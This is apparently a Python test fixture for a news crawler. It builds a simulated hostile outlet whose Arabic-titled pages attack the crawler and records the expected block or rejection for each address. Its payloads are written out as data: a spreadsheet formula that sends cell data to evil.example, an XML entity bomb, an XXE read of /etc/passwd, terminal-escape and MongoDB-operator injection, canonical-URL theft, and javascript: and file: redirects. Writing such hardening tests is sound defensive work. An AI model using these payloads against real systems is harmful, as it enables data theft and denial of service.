"""An outlet that attacks its crawlers and another outlet, with the outcome of each address."""

import json
from itertools import pairwise

from tests.extraction.pages import PARAGRAPHS, document, paragraphs
from tests.hostile.server import (
    HTML,
    Act,
    Connection,
    HostileSite,
    make_head,
    send_page,
    send_redirect,
)

DAY = "/2026/11/20"
XML = "application/xml"
MEGABYTE = 1 << 20
ESCAPES = (
    "\x1b]0;pwned\x07 \x1b[31mافتتاح\x1b[0m السوق \u202eالقديم\u202c [bold red]بعد ترميم[/bold red]"
)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"افتتاح السوق القديم بعد ترميم")'
BOMB = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {name} "{f"&{part};" * 10}">' for part, name in pairwise("abcdefghi"))
    + "]>"
)
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'


def body(number: int) -> str:
    """Write the paragraphs of an article, which differ by its number."""
    return paragraphs([f"{text} ({number}: {'حديد ' * number})" for text in PARAGRAPHS])


def article(number: int, title: str, *, head: str = "") -> Act:
    """Answer with an article."""
    escaped = title.replace("&", "&amp;").replace("<", "&lt;")
    return send_page(
        document(f"<h1>{escaped}</h1>{body(number)}", head=head, title=escaped).encode()
    )


def json_ld_script(value: object) -> str:
    """Write a JSON-LD script."""
    return f'<script type="application/ld+json">{json.dumps(value)}</script>'


def sitemap(*urls: str, first: str = "") -> Act:
    """Answer with a sitemap; `first` stands before it."""
    rows = "".join(f"<url><loc>{url}</loc></url>" for url in urls)
    return send_page(f"{first}<urlset>{rows}</urlset>".encode(), XML)


def index(*urls: str) -> Act:
    """Answer with a sitemap index."""
    rows = "".join(f"<sitemap><loc>{url}</loc></sitemap>" for url in urls)
    return send_page(f"<sitemapindex>{rows}</sitemapindex>".encode(), XML)


def publish_victim(site: HostileSite) -> str:
    """Publish the article that is attacked; return its address."""
    site.acts = {f"{DAY}/own-1001": article(0, "متحف المدينة يستعيد تمثالا نادرا بعد غياب طويل")}
    return f"{site.home}{DAY}/own-1001"


def publish_attacks(site: HostileSite, target: str) -> dict[str, str]:
    """Publish the attacks; return the outcome of each article's address, by the end of its path."""
    front = _front_page(site)
    stored = _stored_articles(site, target)
    others: dict[str, tuple[Act, str]] = {
        "consent-2001": (
            send_page("<title>قبل المتابعة</title><form><p>نستخدم ملفات".encode()),
            "failed:blocked",
        ),
        "lost-2002": (
            send_page(document("<h1>الصفحة غير موجودة</h1><p>عذرا.", title="خطأ 404").encode()),
            "rejected:not-an-article",
        ),
        "home-2003": (front, "rejected:not-an-article"),
        "home-2004": (front, "rejected:not-an-article"),
        "away-2005": (send_redirect(target), "failed:offsite-redirect"),
        "script-2006": (send_redirect("javascript:alert(1)"), "failed:bad-redirect"),
        "file-2007": (send_redirect("file:///etc/passwd"), "failed:http-302"),
        "binary-2008": (send_page(bytes(range(256)) * 99), "rejected:not-an-article"),
        "huge-2009": (_send_100_megabytes, "failed:too-large"),
        "word-2010": (_grown_article(10, f"<p>{'ق' * 1_000_000}</p>"), "rejected:not-an-article"),
    }
    acts = stored | {name: act for name, (act, _) in others.items()}
    site.acts = {f"{DAY}/{name}": act for name, act in acts.items()}
    urls = [f"{site.home}{DAY}/{name}" for name in acts]
    site.acts |= _sources(site, urls) | {"/": front}
    outcomes = {name: outcome for name, (_, outcome) in others.items()}
    return dict.fromkeys(stored, "stored") | outcomes


def _stored_articles(site: HostileSite, target: str) -> dict[str, Act]:
    theft = (
        f'<link rel="canonical" href="{target}"><meta property="og:url" content="{target}">'
        + json_ld_script({"@type": "NewsArticle", "@id": target, "url": target})
    )
    operators = json_ld_script(
        {
            "@type": "NewsArticle",
            "$where": "sleep(1000)",
            "headline": {"$gt": ""},
            "author": {"$ne": None, "name": {"$regex": ".*"}},
            "articleSection": {"$set": {"publisher": "x"}},
            "keywords": ["$set", {"a.b": 1}],
        }
    )
    cycle = {"@id": "#a", "@type": "NewsArticle", "author": {"@id": "#b"}}
    chain = [
        cycle,
        {"@id": "#b", "@type": "Person", "author": {"@id": "#a"}, "name": {"@id": "#b"}},
    ]
    deep = "[" * 50_000
    dated = {"@type": "NewsArticle", "datePublished": "9999-12-31T23:59:59-14:00"}
    return {
        "theft-1001": article(1, "سوق الخضار ينتقل إلى مبنى جديد", head=theft),
        "operators-1002": article(2, "$where: افتتاح مدرسة جديدة في الريف", head=operators),
        "future-1003": article(
            3, "مهرجان الربيع يبدأ غدا في الساحة الكبرى", head=json_ld_script(dated)
        ),
        "escapes-1004": article(4, ESCAPES),
        "formula-1005": article(5, FORMULA),
        "cycles-1006": article(
            6,
            "ميناء الصيادين يستقبل أول سفينة بعد التوسعة",
            head=json_ld_script({"@graph": chain * 9000})
            + f'<script type="application/ld+json">{deep}</script>',
        ),
        "attributes-1007": _grown_article(
            7, f"<p {' '.join(f'a{n}=1' for n in range(1_000_000))}>"
        ),
        "attribute-1008": _grown_article(8, f'<div class="{"a" * 10_000_000}">'),
    }


def _grown_article(number: int, below: str) -> Act:
    """Answer with an article and megabytes below its text."""
    title = f"معرض الكتاب يفتح أبوابه للمرة {number} في المدينة"
    return send_page(document(f"<h1>{title}</h1>{body(number)}{below}", title=title).encode())


def _send_100_megabytes(line: Connection) -> None:
    line.send(make_head())
    for _ in range(100):
        line.send(b"<p>ha</p>" * (MEGABYTE // 9))


def _front_page(site: HostileSite) -> Act:
    home = site.home.removeprefix("http://")
    addresses = (
        *("javascript:alert(1)", "data:text/html,<h1>x", "file:///etc/passwd"),
        *(f"http://user:geheim@{home}{DAY}/secret-3001", f"{DAY}/{'x' * 10_000}-3002"),
        *(f"{DAY}/theft-1001?PHPSESSID={number:032x}" for number in range(9)),
    )
    rows = "".join(
        f'<li><a href="{address}">عنوان طويل لخبر من أخبار اليوم</a>' for address in addresses
    )
    return send_page(document(f"<ul>{rows}</ul>", title="الرئيسية").encode(), HTML)


def _sources(site: HostileSite, urls: list[str]) -> dict[str, Act]:
    home = site.home
    lines = (f"Sitemap: {home}/{name}.xml" for name in ("news", "loop-a", "bomb", "outside"))
    return {
        "/robots.txt": send_page("\n".join(lines).encode(), "text/plain"),
        "/news.xml": sitemap(*urls),
        "/loop-a.xml": index(f"{home}/loop-b.xml", f"{home}/loop-a.xml"),
        "/loop-b.xml": index(f"{home}/loop-a.xml", f"{home}/loop-b.xml"),
        "/bomb.xml": sitemap(f"{home}{DAY}/&i;-4001", first=BOMB),
        "/outside.xml": sitemap(f"{home}{DAY}/&e;-4002", first=OUTSIDE),
    }
